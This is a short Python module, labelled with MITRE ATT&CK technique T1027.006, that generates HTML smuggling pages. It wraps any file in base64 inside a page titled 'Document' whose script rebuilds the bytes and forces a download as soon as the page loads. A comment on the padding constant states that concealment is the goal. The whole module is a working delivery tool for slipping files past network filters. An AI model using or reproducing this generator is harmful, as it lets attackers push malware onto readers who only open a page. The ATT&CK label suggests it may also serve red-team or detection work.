"""Pages that make a file of data inside themselves and hand it to the reader (MITRE ATT&CK T1027.006)."""

from __future__ import annotations

import base64
import json

PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Document</title></head><body><script>
var bytes = Uint8Array.from(atob("{data}"), function (c) {{ return c.charCodeAt(0); }});
var link = document.createElement("a");
link.href = URL.createObjectURL(new Blob([bytes])); link.download = {name}; link.click();
</script></body></html>
"""
LEAST = 1024
"""Bytes up to which a short content is filled with zeros: less is not worth hiding, and nobody looks for it."""


def html_smuggling(name: str, content: bytes) -> bytes:
    """Hands over a file of this name with this content."""
    data = base64.b64encode(content.ljust(LEAST, b"\0")).decode()
    return PAGE.format(data=data, name=json.dumps(name).replace("/", "\\/")).encode()
